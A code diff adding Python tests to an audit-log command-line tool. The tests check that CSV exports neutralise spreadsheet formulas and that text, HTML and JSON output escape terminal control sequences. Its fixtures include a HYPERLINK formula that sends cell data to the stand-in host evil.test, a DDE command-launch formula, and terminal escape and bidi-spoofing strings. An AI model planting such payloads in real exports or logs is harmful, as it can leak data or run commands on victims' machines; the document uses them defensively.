@@ -158,3 +158,75 @@ def test_host_filter_matches_the_host_and_its_subdomains_literally(cli, tmp_path
     status, out, err = cli("audit", "query", log, "--host", host, "--format", "jsonl")
     assert status == 0, err
     assert [json.loads(line)["host"] for line in out.splitlines()] == matches
+
+
+# -- nothing reaches a spreadsheet or a terminal raw ----------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?leak="&D2&E2,"Details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\x00=1",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(cli, tmp_path):
+    log = write_log(tmp_path / "audit.jsonl", [
+        access(f"r{i}", f"2026-11-02T09:0{i}:00.000Z", "mallory", "x", method=formula, path="/" + formula)
+        for i, formula in enumerate(FORMULAS)
+    ])  # fmt: skip
+    status, out, _ = cli("audit", "query", log, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert status == 0
+    assert [r["method"] for r in rows] == ["'" + f for f in FORMULAS]
+    assert [r["path"] for r in rows] == ["/" + f for f in FORMULAS]  # starts with /: no formula
+    assert rows[0]["bytes_in"] == "100" and rows[0]["status"] == "200"  # numbers stay numbers
+    status, out, _ = cli("audit", "sql", "SELECT method, -1 AS n FROM audit ORDER BY ts", log, "--format", "csv")
+    assert out.splitlines()[1:3] == ['"\'=HYPERLINK(""http://evil.test/?leak=""&D2&E2,""Details"")",-1',
+                                     "'+cmd|' /C calc'!A0,-1"]  # fmt: skip
+    status, out, _ = cli("audit", "query", log, "--format", "jsonl")  # JSON stays exact
+    assert [json.loads(line)["method"] for line in out.splitlines()] == FORMULAS
+
+
+TERMINAL = {
+    "clear screen": ("/\x1b[2J", "/\\x1b[2J"),
+    "colour": ("/\x1b[31mred\x1b[0m", "/\\x1b[31mred\\x1b[0m"),
+    "OSC 8 link": ("/\x1b]8;;http://evil.test/\x07click\x1b]8;;\x07", "/\\x1b]8;;http://evil.test/\\x07click\\x1b]8;;\\x07"),
+    "C1 CSI": ("/\x9b2J", "/\\x9b2J"),
+    "carriage return": ("/ok\rforged", "/ok\\rforged"),
+    "bidi override": ("/\u202egpj.exe", "/\\u202egpj.exe"),
+}  # fmt: skip
+RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def test_text_output_shows_control_characters_as_escapes_and_json_keeps_them(cli, tmp_path):
+    log = write_log(tmp_path / "audit.jsonl", [
+        access(f"r{i}", f"2026-11-02T09:0{i}:00.000Z", "eve\x1b[8m", "x", "block", path=raw)
+        for i, (raw, _) in enumerate(TERMINAL.values())
+    ])  # fmt: skip
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY.replace("access: {'*': full}", "access: {}"))
+    runs = {
+        "query table": ("audit", "query", log),
+        "sql table": ("audit", "sql", 'SELECT path, "user" FROM audit', log),
+        "report": ("audit", "report", log, "--since", "2026-11-01", "--until", "2026-11-03"),
+        "replay": ("replay", policy, log),
+    }
+    for name, args in runs.items():
+        status, out, err = cli(*args)
+        assert status in (0, 1), (name, err)
+        assert not RAW.search(out) and not RAW.search(err), (name, out)
+        assert "eve\\x1b[8m" in out, name
+        if name.endswith("table"):
+            for _, shown in TERMINAL.values():
+                assert shown in out, (name, shown)
+    html = tmp_path / "r.html"
+    cli("audit", "report", log, "--since", "2026-11-01", "--until", "2026-11-03", "--html", html)
+    page = html.read_text()
+    assert not RAW.search(page) and "eve\\x1b[8m" in page
+    status, out, _ = cli("audit", "query", log, "--format", "json")
+    assert [r["path"] for r in json.loads(out)] == [raw for raw, _ in TERMINAL.values()]
+    assert not RAW.search(out)  # the same JSON, with \u escapes
